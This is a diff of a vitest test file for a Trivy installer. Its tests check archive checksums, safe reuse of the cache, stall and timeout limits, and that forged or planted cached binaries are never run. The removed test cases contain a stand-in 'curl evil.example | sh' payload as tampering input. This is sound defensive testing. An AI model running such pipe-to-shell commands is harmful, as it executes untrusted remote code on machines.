@@ -1,14 +1,14 @@
 import { execFileSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, linkSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, linkSync, writeFileSync } from 'node:fs';
 import { mkdtemp, rm } from 'node:fs/promises';
 import http from 'node:http';
-import type { AddressInfo } from 'node:net';
+import net, { type AddressInfo } from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
+import { TRIVY_DOWNLOAD_LIMITS } from '../../src/adapters/trivy-download.js';
 import { installTrivy } from '../../src/adapters/trivy-install.js';
-import { TRIVY_SIDECAR } from '../../src/adapters/trivy-cache-record.js';
 import type { Inputs, RunContext, ScanPlan } from '../../src/domain/types.js';
 import type { Runtime } from '../../src/runtime.js';
 
@@ -150,83 +150,124 @@ function captureStdout() {
 
 const cachedDir = (version = VERSION) => path.join(toolCache, 'trivy', version, process.arch);
 
+/** A binary that leaves `marker` behind if it is ever run, and otherwise passes for Trivy. */
+const forged = (marker: string) => `#!/bin/sh\ntouch '${marker}'\n${script(VERSION).slice('#!/bin/sh\n'.length)}`;
+
 describe('installTrivy from a release archive', () => {
-  it.each([['gnu'], ['ustar'], ['pax']])('installs the verified binary from a %s-format archive, and nothing else', async (format) => {
+  it.each([['gnu'], ['ustar'], ['pax']])('installs the verified binary from a %s-format archive into a directory of the run', async (format) => {
     const archive = buildArchive('good', releaseLike(VERSION), RELEASE_MEMBERS, [`--format=${format}`]);
     const urlPath = serve(VERSION, archive);
 
     const binary = await installTrivy(scanPlan({ trivySha256: sha256(archive) }), runtime());
 
-    expect(binary).toBe(path.join(cachedDir(), 'trivy'));
+    expect(path.dirname(path.dirname(binary))).toBe(runnerTemp);
+    expect(statSync(path.dirname(binary)).mode & 0o777).toBe(0o700);
     expect(execFileSync(binary).toString()).toContain(`Version: ${VERSION}`);
     expect(statSync(binary).mode & 0o777).toBe(0o755);
     expect(readFileSync(binary, 'utf8')).toBe(script(VERSION));
-    expect(filesUnder(cachedDir()).sort()).toEqual(['trivy', TRIVY_SIDECAR]);
-    expect(JSON.parse(readFileSync(path.join(cachedDir(), TRIVY_SIDECAR), 'utf8'))).toEqual({
-      asset: asset(VERSION),
-      archiveSha256: sha256(archive),
-      binarySha256: sha256(script(VERSION)),
-    });
+    // The run's directory holds the binary alone; the download is gone.
+    expect(filesUnder(runnerTemp)).toEqual([path.relative(runnerTemp, binary)]);
+    // The cache keeps the verified archive, and nothing that could be run as it is.
+    expect(filesUnder(cachedDir())).toEqual([asset(VERSION)]);
+    expect(sha256(readFileSync(path.join(cachedDir(), asset(VERSION))))).toBe(sha256(archive));
     expect(hits.get(urlPath)).toBe(1);
-    // The download and the staging directory are gone.
-    expect(filesUnder(runnerTemp)).toEqual([]);
   });
 
-  it('uses a cache hit without downloading, after re-hashing it', async () => {
+  it('uses the cached archive without downloading, extracting a fresh binary for each run', async () => {
+    const archive = buildArchive('good', releaseLike(VERSION), RELEASE_MEMBERS);
+    const urlPath = serve(VERSION, archive);
+    const plan = scanPlan({ trivySha256: sha256(archive) });
+    const first = await installTrivy(plan, runtime());
+
+    const log = captureStdout();
+    const second = await installTrivy(plan, runtime()).finally(log.stop);
+
+    expect(hits.get(urlPath)).toBe(1);
+    expect(log.text()).not.toContain('::warning::');
+    expect(second).not.toBe(first);
+    expect(path.dirname(path.dirname(second))).toBe(runnerTemp);
+    expect(readFileSync(second, 'utf8')).toBe(script(VERSION));
+  });
+
+  it('never runs a forged binary left in the cache with a checksum record that vouches for it', async () => {
+    const archive = buildArchive('good', releaseLike(VERSION), RELEASE_MEMBERS);
+    const urlPath = serve(VERSION, archive);
+    const marker = path.join(caseDir, 'forged-binary-ran');
+    // A cache entry as an earlier job on the runner could leave it: a binary, a record whose
+    // archive checksum is the pinned one and whose binary checksum matches the forgery.
+    mkdirSync(cachedDir(), { recursive: true });
+    writeFileSync(path.join(cachedDir(), 'trivy'), forged(marker), { mode: 0o755 });
+    const record = { asset: asset(VERSION), archiveSha256: sha256(archive), binarySha256: sha256(forged(marker)) };
+    writeFileSync(path.join(cachedDir(), 'trivy.sha256.json'), JSON.stringify(record));
+    writeFileSync(`${cachedDir()}.complete`, '');
+
+    const log = captureStdout();
+    const binary = await installTrivy(scanPlan({ trivySha256: sha256(archive) }), runtime()).finally(log.stop);
+
+    expect(existsSync(marker)).toBe(false);
+    expect(log.text()).toContain(`::warning::Cached Trivy ${VERSION} not used (it holds no release archive "${asset(VERSION)}"); nothing from it was run.`);
+    expect(hits.get(urlPath)).toBe(1);
+    expect(readFileSync(binary, 'utf8')).toBe(script(VERSION));
+    // The forged entry was replaced by the verified archive.
+    expect(filesUnder(cachedDir())).toEqual([asset(VERSION)]);
+  });
+
+  it('never runs a binary planted next to the genuine cached archive', async () => {
     const archive = buildArchive('good', releaseLike(VERSION), RELEASE_MEMBERS);
     const urlPath = serve(VERSION, archive);
     const plan = scanPlan({ trivySha256: sha256(archive) });
     await installTrivy(plan, runtime());
+    const marker = path.join(caseDir, 'planted-binary-ran');
+    writeFileSync(path.join(cachedDir(), 'trivy'), forged(marker), { mode: 0o755 });
 
     const binary = await installTrivy(plan, runtime());
 
-    expect(binary).toBe(path.join(cachedDir(), 'trivy'));
+    expect(existsSync(marker)).toBe(false);
+    expect(readFileSync(binary, 'utf8')).toBe(script(VERSION));
     expect(hits.get(urlPath)).toBe(1);
   });
 
   it.each([
     [
-      'a tampered binary',
-      () => writeFileSync(path.join(cachedDir(), 'trivy'), `${script(VERSION)}curl evil.example | sh\n`),
-      /the binary's sha256 is [0-9a-f]{64}, [0-9a-f]{64} was recorded at install time/,
-    ],
-    ['a missing checksum record', () => rmSync(path.join(cachedDir(), TRIVY_SIDECAR)), /no readable checksum record/],
-    ['an unreadable checksum record', () => writeFileSync(path.join(cachedDir(), TRIVY_SIDECAR), '{not json'), /no readable checksum record/],
-    [
-      'a checksum record rewritten to match a tampered binary',
-      () => {
-        const evil = `${script(VERSION)}curl evil.example | sh\n`;
-        writeFileSync(path.join(cachedDir(), 'trivy'), evil);
-        const record = { asset: asset(VERSION), archiveSha256: 'c'.repeat(64), binarySha256: sha256(evil) };
-        writeFileSync(path.join(cachedDir(), TRIVY_SIDECAR), JSON.stringify(record));
+      'another archive (its binary forged)',
+      (marker: string) => {
+        const evil = buildArchive('evil', (dir) => {
+          releaseLike(VERSION)(dir);
+          writeFileSync(path.join(dir, 'trivy'), forged(marker), { mode: 0o755 });
+        }, RELEASE_MEMBERS);
+        writeFileSync(path.join(cachedDir(), asset(VERSION)), evil);
       },
-      /installed from another archive \(sha256 c{64}\)/,
+      /its archive's SHA-256 is [0-9a-f]{64}, expected [0-9a-f]{64}/,
     ],
+    ['a truncated archive', () => writeFileSync(path.join(cachedDir(), asset(VERSION)), 'not gzip'), /its archive's SHA-256 is [0-9a-f]{64}, expected [0-9a-f]{64}/],
+    ['no archive', () => rmSync(path.join(cachedDir(), asset(VERSION))), /it holds no release archive "trivy_[^"]+"/],
     [
-      'a binary replaced by a symlink',
+      'the archive replaced by a symbolic link',
       () => {
-        const elsewhere = path.join(caseDir, 'elsewhere');
-        writeFileSync(elsewhere, script(VERSION), { mode: 0o755 });
-        rmSync(path.join(cachedDir(), 'trivy'));
-        symlinkSync(elsewhere, path.join(cachedDir(), 'trivy'));
+        const elsewhere = path.join(caseDir, 'elsewhere.tar.gz');
+        writeFileSync(elsewhere, readFileSync(path.join(cachedDir(), asset(VERSION))));
+        rmSync(path.join(cachedDir(), asset(VERSION)));
+        symlinkSync(elsewhere, path.join(cachedDir(), asset(VERSION)));
       },
-      /the binary is missing or not a regular file/,
+      /it holds no release archive "trivy_[^"]+"/,
     ],
-  ])('detects %s in the cache and reinstalls from the verified archive', async (_label, tamper, why) => {
+  ])('replaces a cache entry holding %s with the verified archive, running nothing from it', async (_label, tamper, why) => {
     const archive = buildArchive('good', releaseLike(VERSION), RELEASE_MEMBERS);
     const urlPath = serve(VERSION, archive);
     const plan = scanPlan({ trivySha256: sha256(archive) });
     await installTrivy(plan, runtime());
-    tamper();
+    const marker = path.join(caseDir, 'cached-binary-ran');
+    tamper(marker);
 
     const log = captureStdout();
     const binary = await installTrivy(plan, runtime()).finally(log.stop);
 
-    expect(log.text()).toMatch(new RegExp(`::warning::Cached Trivy ${VERSION} not used \\(${why.source}\\); installing it again`));
+    expect(existsSync(marker)).toBe(false);
+    expect(log.text()).toMatch(new RegExp(`::warning::Cached Trivy ${VERSION} not used \\(${why.source}\\); nothing from it was run\\. Installing it again from "`));
     expect(hits.get(urlPath)).toBe(2);
-    expect(statSync(binary).isFile()).toBe(true);
     expect(readFileSync(binary, 'utf8')).toBe(script(VERSION));
-    expect(JSON.parse(readFileSync(path.join(cachedDir(), TRIVY_SIDECAR), 'utf8')).binarySha256).toBe(sha256(script(VERSION)));
+    expect(lstatSync(path.join(cachedDir(), asset(VERSION))).isFile()).toBe(true);
+    expect(sha256(readFileSync(path.join(cachedDir(), asset(VERSION))))).toBe(sha256(archive));
   });
 
   it('reinstalls when the cache came from another archive (a different trivy-sha256)', async () => {
@@ -242,7 +283,7 @@ describe('installTrivy from a release archive', () => {
     await installTrivy(scanPlan({ trivySha256: sha256(second) }), runtime());
 
     expect(hits.get(urlPath)).toBe(2);
-    expect(JSON.parse(readFileSync(path.join(cachedDir(), TRIVY_SIDECAR), 'utf8')).archiveSha256).toBe(sha256(second));
+    expect(sha256(readFileSync(path.join(cachedDir(), asset(VERSION))))).toBe(sha256(second));
   });
 
   it('refuses an archive whose checksum does not match: names both, extracts nothing, deletes the download', async () => {
@@ -340,7 +381,7 @@ describe('installTrivy from a release archive', () => {
 
   it('fails clearly on a 404', async () => {
     await expect(installTrivy(scanPlan({ trivySha256: 'a'.repeat(64) }), runtime())).rejects.toThrow(
-      `Could not download Trivy from "${baseUrl}v${VERSION}/${asset(VERSION)}": HTTP 404`,
+      `Could not download Trivy from "${baseUrl}v${VERSION}/${asset(VERSION)}" (host "${new URL(baseUrl).host}"): HTTP 404`,
     );
     expect(filesUnder(runnerTemp)).toEqual([]);
   });
@@ -363,6 +404,73 @@ describe('installTrivy from a release archive', () => {
     const env = { ...process.env, RUNNER_TOOL_CACHE: undefined };
     await expect(installTrivy(scanPlan({ trivySha256: 'a'.repeat(64) }), runtime(env))).rejects.toThrow(/needs RUNNER_TEMP and RUNNER_TOOL_CACHE/);
     expect(hits.size).toBe(0);
+  });
+});
+
+describe('installTrivy against a server that stalls', () => {
+  /** A server on 127.0.0.1 that answers each connection with `answer`, then holds it open. */
+  async function stallingServer(answer: (socket: net.Socket) => void): Promise<{ url: string; host: string; close: () => Promise<void> }> {
+    const sockets = new Set<net.Socket>();
+    const stalled = net.createServer((socket) => {
+      sockets.add(socket);
+      socket.on('error', () => undefined);
+      answer(socket);
+    });
+    await new Promise<void>((resolve) => stalled.listen(0, '127.0.0.1', resolve));
+    const host = `127.0.0.1:${(stalled.address() as AddressInfo).port}`;
+    return {
+      url: `http://${host}/releases/download/`,
+      host,
+      close: async () => {
+        for (const socket of sockets) socket.destroy();
+        await new Promise<void>((resolve) => stalled.close(() => resolve()));
+      },
+    };
+  }
+
+  const limits = { stallMs: 300, totalMs: 60_000 };
+
+  it('has the bounds README.md and SECURITY.md state: 60 s without a byte, 10 minutes in all', () => {
+    expect(TRIVY_DOWNLOAD_LIMITS).toEqual({ stallMs: 60 * 1000, totalMs: 10 * 60 * 1000 });
+  });
+
+  it.each([
+    ['accepts the connection and never answers', () => undefined, /the server sent nothing for 300 ms, so it was stopped/],
+    [
+      'sends the headers and part of the body, then nothing',
+      (socket: net.Socket) => socket.write('HTTP/1.1 200 OK\r\ncontent-type: application/octet-stream\r\ncontent-length: 1000000\r\n\r\npartial'),
+      /the server sent nothing for 300 ms, so it was stopped/,
+    ],
+  ])('fails within the bound when the server %s, naming the download and the host', async (_label, answer, why) => {
+    const server = await stallingServer(answer);
+    try {
+      const error = await installTrivy(scanPlan({ trivyDownloadUrl: server.url, trivySha256: 'a'.repeat(64) }), runtime(), {}, limits).then(
+        () => undefined,
+        (reason: unknown) => reason as Error,
+      );
+      expect(error?.message).toContain(`Could not download Trivy from "${server.url}v${VERSION}/${asset(VERSION)}" (host "${server.host}"): `);
+      expect(error?.message).toMatch(why);
+      expect(filesUnder(runnerTemp)).toEqual([]);
+      expect(existsSync(path.join(toolCache, 'trivy'))).toBe(false);
+    } finally {
+      await server.close();
+    }
+  });
+
+  it('fails when the whole download takes longer than its bound, even with bytes trickling in', async () => {
+    const server = await stallingServer((socket) => {
+      socket.write('HTTP/1.1 200 OK\r\ncontent-length: 1000000\r\n\r\n');
+      const drip = setInterval(() => (socket.destroyed ? clearInterval(drip) : socket.write('x')), 20);
+      socket.on('close', () => clearInterval(drip));
+    });
+    try {
+      const plan = scanPlan({ trivyDownloadUrl: server.url, trivySha256: 'a'.repeat(64) });
+      await expect(installTrivy(plan, runtime(), {}, { stallMs: 5_000, totalMs: 400 })).rejects.toThrow(
+        `(host "${server.host}"): not finished after 400 ms, so it was stopped`,
+      );
+    } finally {
+      await server.close();
+    }
   });
 });
 
